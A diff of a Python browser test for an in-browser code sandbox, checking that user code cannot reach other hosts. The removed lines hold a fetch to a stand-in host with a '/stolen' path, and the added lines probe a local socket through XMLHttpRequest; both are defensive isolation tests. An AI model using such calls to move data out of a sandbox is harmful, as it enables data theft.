@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+import socket
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -178,12 +179,14 @@ def test_an_address_holds_the_code_and_the_board(chromium: Browser, visited: Vis
 
 
 def test_code_reaches_nothing_elsewhere(visited: Visit) -> None:
-    code = f'from js import fetch\nfetch("https://example.org/stolen")\n{MINE}'
-    _finish(visited.page, code)
-    assert not [url for url in visited.requests if "example.org" in url]
-    blocked = [said for said in visited.complaints if "example.org" in said]
-    assert blocked
-    visited.complaints[:] = [said for said in visited.complaints if "example.org" not in said]
+    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
+        elsewhere.settimeout(1)
+        there = f"http://127.0.0.1:{elsewhere.getsockname()[1]}/"
+        sends = f'from js import XMLHttpRequest\nsent = XMLHttpRequest.new()\nsent.open("GET", "{there}", False)\n'
+        assert "NetworkError" in _finish(visited.page, f"{sends}sent.send()\n{MINE}")
+        with pytest.raises(TimeoutError):
+            elsewhere.accept()
+    visited.complaints[:] = [said for said in visited.complaints if there not in said]
 
 
 def test_it_is_used_by_keyboard(visited: Visit) -> None:
